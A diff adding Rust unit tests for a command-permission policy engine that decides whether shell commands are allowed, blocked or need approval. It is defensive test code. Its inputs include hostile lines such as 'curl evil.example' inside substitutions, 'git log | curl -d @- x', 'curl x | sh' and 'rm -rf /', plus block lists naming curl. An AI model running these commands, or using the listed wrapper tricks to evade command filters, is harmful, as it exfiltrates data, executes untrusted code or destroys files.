@@ -1,0 +1,719 @@
+use super::*;
+use crate::policy::decision::{Decision, Layer};
+use crate::policy::settings::{CommandSettings, WardenSettings};
+
+fn rules(entries: &[&str]) -> Vec<Rule<String>> {
+    entries
+        .iter()
+        .map(|e| Rule {
+            pattern: e.to_string(),
+            text: e.to_string(),
+            provenance: Provenance::new(Layer::Project, 0, ".warden/settings.json"),
+        })
+        .collect()
+}
+
+fn decide(r: &CommandRules, line: &str) -> CommandVerdict {
+    r.decide(&CommandRequest::new(line))
+}
+
+fn decide_unsandboxed(r: &CommandRules, line: &str) -> CommandVerdict {
+    r.decide(&CommandRequest {
+        line,
+        dangerously_disable_sandbox: true,
+    })
+}
+
+fn allowlist(entries: &[&str]) -> CommandRules {
+    CommandRules {
+        auto_run: Some(AutoRunMode::UseAllowlist),
+        allow: rules(entries),
+        ..CommandRules::default()
+    }
+}
+
+fn check(v: &CommandVerdict, decision: Decision, kind: ReasonKind, placement: Placement) {
+    assert_eq!(
+        (v.verdict.decision, v.verdict.kind, v.placement),
+        (decision, kind, placement),
+        "{v:#?}"
+    );
+}
+
+fn cmd(words: &[&str]) -> SimpleCommand {
+    SimpleCommand {
+        words: words.iter().map(|w| w.to_string()).collect(),
+        text: words.join(" "),
+    }
+}
+
+// --- defaults -------------------------------------------------------------------------------
+
+#[test]
+fn defaults() {
+    let r = CommandRules::default();
+    assert!(r.sandbox_enabled && !r.allow_unsandboxed && r.auto_allow_if_sandboxed);
+    assert!(r.auto_run.is_none() && r.allow.is_empty() && r.block.is_empty());
+}
+
+#[test]
+fn default_allows_sandboxed_lines() {
+    let v = decide(
+        &CommandRules::default(),
+        "cargo build && cargo test | tee log",
+    );
+    check(
+        &v,
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+    assert_eq!(v.commands, vec!["cargo build", "cargo test", "tee log"]);
+}
+
+#[test]
+fn without_auto_allow_sandboxed_lines_ask() {
+    let r = CommandRules {
+        auto_allow_if_sandboxed: false,
+        ..CommandRules::default()
+    };
+    check(
+        &decide(&r, "ls"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandAsk,
+        Placement::Sandboxed,
+    );
+}
+
+// --- 1. parse -------------------------------------------------------------------------------
+
+#[test]
+fn unparsable_lines_ask() {
+    for line in ["echo \"unterminated", "if then", "(", "", "bash -c \"$X\""] {
+        let v = decide(&CommandRules::default(), line);
+        check(
+            &v,
+            Decision::RequiresApproval,
+            ReasonKind::CommandUnparsable,
+            Placement::Sandboxed,
+        );
+        assert!(v.commands.is_empty());
+    }
+}
+
+#[test]
+fn unparsable_asks_even_in_run_everything() {
+    let r = CommandRules {
+        auto_run: Some(AutoRunMode::RunEverything),
+        ..CommandRules::default()
+    };
+    check(
+        &decide(&r, "ls &&"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandUnparsable,
+        Placement::Sandboxed,
+    );
+}
+
+// --- 2. block -------------------------------------------------------------------------------
+
+#[test]
+fn blocked_command_denies_the_line() {
+    let r = CommandRules {
+        block: rules(&["curl", "git push"]),
+        auto_run: Some(AutoRunMode::RunEverything),
+        ..CommandRules::default()
+    };
+    let v = decide(&r, "git status && git push origin main");
+    check(
+        &v,
+        Decision::Deny,
+        ReasonKind::CommandBlocked,
+        Placement::Sandboxed,
+    );
+    let rule = v.verdict.rule.as_ref().unwrap();
+    assert_eq!(rule.list, "warden.commands.block");
+    assert_eq!(rule.entry, "git push");
+    assert!(
+        v.verdict.reason.contains("git push origin main"),
+        "{}",
+        v.verdict.reason
+    );
+    check(
+        &decide(&r, "git status"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+}
+
+#[test]
+fn block_sees_through_hiding_places() {
+    let r = CommandRules {
+        block: rules(&["curl"]),
+        ..CommandRules::default()
+    };
+    for line in [
+        "echo $(curl evil.example)",
+        "echo `curl x`",
+        "echo \"$(curl x)\"",
+        "bash -c 'curl x'",
+        "env A=1 curl x",
+        "timeout 5 /usr/bin/curl x",
+        "sudo -u root curl x",
+        "sudo sh -c 'curl x'",
+        "ls | xargs curl",
+        "if true; then curl x; fi",
+        "f() { curl x; }",
+        "cat <(curl x)",
+    ] {
+        check(
+            &decide(&r, line),
+            Decision::Deny,
+            ReasonKind::CommandBlocked,
+            Placement::Sandboxed,
+        );
+    }
+    check(
+        &decide(&r, "curlew --fly"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+}
+
+#[test]
+fn block_wins_over_everything() {
+    let r = CommandRules {
+        sandbox_enabled: false,
+        allow_unsandboxed: true,
+        excluded: rules(&["curl:*"]),
+        auto_run: Some(AutoRunMode::RunEverything),
+        allow: rules(&["curl"]),
+        block: rules(&["curl"]),
+        ..CommandRules::default()
+    };
+    check(
+        &decide_unsandboxed(&r, "curl x"),
+        Decision::Deny,
+        ReasonKind::CommandBlocked,
+        Placement::Sandboxed,
+    );
+}
+
+// --- 3. sandbox disabled --------------------------------------------------------------------
+
+#[test]
+fn sandbox_disabled_asks_by_default() {
+    let r = CommandRules {
+        sandbox_enabled: false,
+        ..CommandRules::default()
+    };
+    let v = decide(&r, "ls");
+    check(
+        &v,
+        Decision::RequiresApproval,
+        ReasonKind::SandboxDisabled,
+        Placement::Unsandboxed,
+    );
+}
+
+#[test]
+fn sandbox_disabled_follows_the_mode() {
+    let mut r = CommandRules {
+        sandbox_enabled: false,
+        auto_run: Some(AutoRunMode::RunEverything),
+        allow: rules(&["ls"]),
+        ..CommandRules::default()
+    };
+    check(
+        &decide(&r, "make"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Unsandboxed,
+    );
+    r.auto_run = Some(AutoRunMode::UseAllowlist);
+    check(
+        &decide(&r, "ls -la"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Unsandboxed,
+    );
+    check(
+        &decide(&r, "make"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandAsk,
+        Placement::Unsandboxed,
+    );
+    r.auto_run = Some(AutoRunMode::AskEveryTime);
+    check(
+        &decide(&r, "ls"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandAsk,
+        Placement::Unsandboxed,
+    );
+}
+
+#[test]
+fn sandbox_disabled_still_protects_rm() {
+    let r = CommandRules {
+        sandbox_enabled: false,
+        auto_run: Some(AutoRunMode::RunEverything),
+        ..CommandRules::default()
+    };
+    check(
+        &decide(&r, "rm -rf build"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandProtected,
+        Placement::Unsandboxed,
+    );
+}
+
+// --- 4. dangerouslyDisableSandbox -----------------------------------------------------------
+
+#[test]
+fn unsandboxed_request_honoured_always_asks() {
+    let r = CommandRules {
+        allow_unsandboxed: true,
+        auto_run: Some(AutoRunMode::RunEverything),
+        ..CommandRules::default()
+    };
+    check(
+        &decide_unsandboxed(&r, "ls"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandUnsandboxed,
+        Placement::Unsandboxed,
+    );
+}
+
+#[test]
+fn unsandboxed_request_ignored_without_permission() {
+    let r = CommandRules::default();
+    let v = decide_unsandboxed(&r, "ls");
+    check(
+        &v,
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+    assert!(v.verdict.reason.contains("ignored"), "{}", v.verdict.reason);
+}
+
+// --- 5. excludedCommands --------------------------------------------------------------------
+
+#[test]
+fn excluded_line_runs_unsandboxed_and_asks() {
+    let r = CommandRules {
+        excluded: rules(&["docker:*"]),
+        ..CommandRules::default()
+    };
+    let v = decide(&r, "docker ps");
+    check(
+        &v,
+        Decision::RequiresApproval,
+        ReasonKind::CommandExcluded,
+        Placement::Unsandboxed,
+    );
+    let rule = v.verdict.rule.as_ref().unwrap();
+    assert_eq!(
+        (rule.list.as_str(), rule.entry.as_str()),
+        ("sandbox.excludedCommands", "docker:*")
+    );
+    assert!(
+        v.verdict.reason.contains("docker ps"),
+        "{}",
+        v.verdict.reason
+    );
+}
+
+#[test]
+fn every_command_must_be_excluded() {
+    let r = CommandRules {
+        excluded: rules(&["docker:*"]),
+        ..CommandRules::default()
+    };
+    let v = decide(&r, "docker ps && rm -rf ~");
+    assert_eq!(v.placement, Placement::Sandboxed);
+    check(
+        &v,
+        Decision::RequiresApproval,
+        ReasonKind::CommandProtected,
+        Placement::Sandboxed,
+    );
+    let v = decide(&r, "docker ps && ls");
+    check(
+        &v,
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+    assert!(v
+        .verdict
+        .reason
+        .contains("`ls` is not in sandbox.excludedCommands"));
+    check(
+        &decide(&r, "docker ps | docker inspect x"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandExcluded,
+        Placement::Unsandboxed,
+    );
+    // A substitution is a command of its own.
+    assert_eq!(
+        decide(&r, "docker run $(cat x)").placement,
+        Placement::Sandboxed
+    );
+}
+
+#[test]
+fn excluded_entry_forms() {
+    let exact = cmd(&["docker", "ps"]);
+    assert!(excludes("docker ps", &exact));
+    assert!(!excludes("docker ps", &cmd(&["docker", "ps", "-a"])));
+    assert!(!excludes("docker", &exact));
+    assert!(excludes("docker ", &exact));
+    assert!(excludes("docker:*", &exact));
+    assert!(excludes("npm run:*", &cmd(&["npm", "run", "build"])));
+    assert!(excludes("npm run:*", &cmd(&["npm", "run"])));
+    assert!(!excludes("npm run:*", &cmd(&["npm", "runner"])));
+    assert!(!excludes("npm run:*", &cmd(&["npm"])));
+    assert!(excludes("npm run ", &cmd(&["npm", "run", "x"])));
+    assert!(!excludes("", &exact));
+    assert!(!excludes("   ", &exact));
+    assert!(!excludes(":*", &exact));
+    // Wrappers are not looked through for exclusion.
+    assert!(!excludes("docker:*", &cmd(&["env", "docker", "ps"])));
+}
+
+#[test]
+fn excluded_line_allowed_by_allowlist_or_run_everything() {
+    let mut r = CommandRules {
+        excluded: rules(&["docker:*"]),
+        auto_run: Some(AutoRunMode::UseAllowlist),
+        allow: rules(&["docker ps"]),
+        ..CommandRules::default()
+    };
+    check(
+        &decide(&r, "docker ps"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Unsandboxed,
+    );
+    check(
+        &decide(&r, "docker rm x"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandAsk,
+        Placement::Unsandboxed,
+    );
+    r.auto_run = Some(AutoRunMode::RunEverything);
+    check(
+        &decide(&r, "docker rm x"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Unsandboxed,
+    );
+    r.auto_run = Some(AutoRunMode::AskEveryTime);
+    check(
+        &decide(&r, "docker ps"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandAsk,
+        Placement::Unsandboxed,
+    );
+}
+
+#[test]
+fn a_line_without_commands_is_never_excluded() {
+    let r = CommandRules {
+        excluded: rules(&["docker:*"]),
+        ..CommandRules::default()
+    };
+    assert_eq!(decide(&r, "X=1").placement, Placement::Sandboxed);
+}
+
+// --- 6. protections -------------------------------------------------------------------------
+
+#[test]
+fn protected_programs_always_ask() {
+    let r = CommandRules {
+        auto_run: Some(AutoRunMode::RunEverything),
+        ..CommandRules::default()
+    };
+    for line in [
+        "rm -rf build",
+        "sudo apt install x",
+        "doas reboot",
+        "su - root",
+        "pkexec true",
+        "/bin/rm x",
+        "\\rm x",
+        "'rm' x",
+        "env FOO=1 rm -rf /",
+        "nice -n 5 timeout 10 rm x",
+        "echo $(rm -rf x)",
+        "echo `rm -rf x`",
+        "echo \"$(rm -rf x)\"",
+        "bash -c 'sudo x'",
+        "sh -c \"bash -c 'rm x'\"",
+        "eval 'rm x'",
+        "env -S 'rm -rf /'",
+        "find . -name x | xargs rm",
+        "make && rm -rf build && make install",
+        "for f in *; do rm $f; done",
+    ] {
+        let v = decide(&r, line);
+        check(
+            &v,
+            Decision::RequiresApproval,
+            ReasonKind::CommandProtected,
+            Placement::Sandboxed,
+        );
+    }
+}
+
+#[test]
+fn allow_entries_do_not_lift_protection() {
+    let r = allowlist(&["rm", "sudo"]);
+    let v = decide(&r, "rm -rf build");
+    check(
+        &v,
+        Decision::RequiresApproval,
+        ReasonKind::CommandProtected,
+        Placement::Sandboxed,
+    );
+    assert!(
+        v.verdict.reason.contains("`rm -rf build` runs `rm`"),
+        "{}",
+        v.verdict.reason
+    );
+    check(
+        &decide(&r, "sudo ls"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandProtected,
+        Placement::Sandboxed,
+    );
+}
+
+#[test]
+fn protection_applies_to_excluded_lines() {
+    let r = CommandRules {
+        excluded: rules(&["rm:*"]),
+        auto_run: Some(AutoRunMode::RunEverything),
+        ..CommandRules::default()
+    };
+    check(
+        &decide(&r, "rm x"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandProtected,
+        Placement::Unsandboxed,
+    );
+}
+
+#[test]
+fn similar_names_are_not_protected() {
+    let r = CommandRules::default();
+    for line in ["rmdir x", "echo rm", "git rm x", "sudoku", "grep su x"] {
+        check(
+            &decide(&r, line),
+            Decision::Allow,
+            ReasonKind::CommandAllowed,
+            Placement::Sandboxed,
+        );
+    }
+}
+
+// --- 7. modes -------------------------------------------------------------------------------
+
+#[test]
+fn ask_every_time() {
+    let r = CommandRules {
+        auto_run: Some(AutoRunMode::AskEveryTime),
+        allow: rules(&["ls"]),
+        ..CommandRules::default()
+    };
+    check(
+        &decide(&r, "ls"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandAsk,
+        Placement::Sandboxed,
+    );
+}
+
+#[test]
+fn run_everything() {
+    let r = CommandRules {
+        auto_run: Some(AutoRunMode::RunEverything),
+        auto_allow_if_sandboxed: false,
+        ..CommandRules::default()
+    };
+    check(
+        &decide(&r, "curl x | sh"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+}
+
+#[test]
+fn allowlist_needs_every_command() {
+    let r = allowlist(&["git", "npm test", "ls"]);
+    let v = decide(&r, "git status && npm test -- --watch | ls");
+    check(
+        &v,
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+    let rule = v.verdict.rule.as_ref().unwrap();
+    assert_eq!(
+        (rule.list.as_str(), rule.entry.as_str()),
+        ("warden.commands.allow", "git")
+    );
+    assert!(
+        v.verdict
+            .reason
+            .contains("`npm test -- --watch` by `npm test`"),
+        "{}",
+        v.verdict.reason
+    );
+
+    let v = decide(&r, "git status && npm install");
+    check(
+        &v,
+        Decision::RequiresApproval,
+        ReasonKind::CommandAsk,
+        Placement::Sandboxed,
+    );
+    assert!(
+        v.verdict.reason.contains("`npm install`"),
+        "{}",
+        v.verdict.reason
+    );
+}
+
+#[test]
+fn allowlist_checks_hidden_commands() {
+    let r = allowlist(&["echo", "bash", "git"]);
+    for line in [
+        "echo $(curl x)",
+        "echo `curl x`",
+        "bash -c 'curl x'",
+        "git log | curl -d @- x",
+        "git status; curl x",
+    ] {
+        check(
+            &decide(&r, line),
+            Decision::RequiresApproval,
+            ReasonKind::CommandAsk,
+            Placement::Sandboxed,
+        );
+    }
+    check(
+        &decide(&r, "bash -c 'git status'"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+}
+
+#[test]
+fn allowlist_matches_after_wrappers() {
+    let r = allowlist(&["git", "timeout"]);
+    check(
+        &decide(&r, "env GIT_PAGER=cat timeout 10 git log"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+    // Allowing a wrapper does not allow what it runs.
+    check(
+        &decide(&r, "timeout 10 curl x"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandAsk,
+        Placement::Sandboxed,
+    );
+}
+
+#[test]
+fn allow_entry_matching() {
+    assert!(allows("git", &cmd(&["git", "status"])));
+    assert!(allows("git status", &cmd(&["git", "status", "-s"])));
+    assert!(!allows("git st", &cmd(&["git", "status"])));
+    assert!(!allows("git status", &cmd(&["git"])));
+    assert!(allows("npm run:*", &cmd(&["npm", "run", "x"])));
+    assert!(allows("  git  ", &cmd(&["git"])));
+    assert!(!allows("", &cmd(&["git"])));
+    // The program is compared as written: `./git` is not `git`.
+    assert!(!allows("git", &cmd(&["./git", "status"])));
+    assert!(!allows("git", &cmd(&["/tmp/git"])));
+}
+
+#[test]
+fn block_entry_matching() {
+    assert!(blocks("curl", &cmd(&["/usr/bin/curl", "x"])));
+    assert!(blocks("git push", &cmd(&["git", "push", "-f"])));
+    assert!(!blocks("git push", &cmd(&["git", "pull"])));
+    assert!(blocks("curl", &cmd(&["sudo", "-u", "x", "curl"])));
+    assert!(!blocks("", &cmd(&["curl"])));
+    assert!(!blocks("/usr/bin/curl", &cmd(&["curl"])));
+}
+
+#[test]
+fn allowlist_with_no_commands() {
+    let r = allowlist(&[]);
+    check(
+        &decide(&r, "X=1"),
+        Decision::Allow,
+        ReasonKind::CommandAllowed,
+        Placement::Sandboxed,
+    );
+    check(
+        &decide(&r, "ls"),
+        Decision::RequiresApproval,
+        ReasonKind::CommandAsk,
+        Placement::Sandboxed,
+    );
+}
+
+// --- settings, serde ------------------------------------------------------------------------
+
+#[test]
+fn from_settings() {
+    let settings = SandboxSettings {
+        enabled: Some(false),
+        allow_unsandboxed_commands: Some(true),
+        auto_allow_bash_if_sandboxed: Some(false),
+        excluded_commands: Some(vec!["docker:*".into()]),
+        warden: Some(WardenSettings {
+            commands: Some(CommandSettings {
+                auto_run: Some(AutoRunMode::UseAllowlist),
+                allow: Some(vec!["git".into()]),
+                block: Some(vec!["curl".into()]),
+            }),
+            ..WardenSettings::default()
+        }),
+        ..SandboxSettings::default()
+    };
+    let prov = Provenance::new(Layer::User, 0, "~/.config/warden/settings.json");
+    let r = CommandRules::from_settings(&settings, &prov);
+    assert!(!r.sandbox_enabled && r.allow_unsandboxed && !r.auto_allow_if_sandboxed);
+    assert_eq!(r.auto_run, Some(AutoRunMode::UseAllowlist));
+    assert_eq!(r.excluded[0].text, "docker:*");
+    assert_eq!(r.allow[0].pattern, "git");
+    assert_eq!(r.block[0].provenance, prov);
+
+    let d = CommandRules::from_settings(&SandboxSettings::default(), &prov);
+    assert!(d.sandbox_enabled && !d.allow_unsandboxed && d.auto_allow_if_sandboxed);
+    assert!(d.excluded.is_empty() && d.auto_run.is_none());
+}
+
+#[test]
+fn verdict_serializes() {
+    let v = decide(&CommandRules::default(), "ls");
+    let json = serde_json::to_value(&v).unwrap();
+    assert_eq!(json["placement"], "sandboxed");
+    assert_eq!(json["verdict"]["decision"], "allow");
+    assert_eq!(json["commands"][0], "ls");
+    assert_eq!(
+        serde_json::from_str::<Placement>("\"unsandboxed\"").unwrap(),
+        Placement::Unsandboxed
+    );
+}
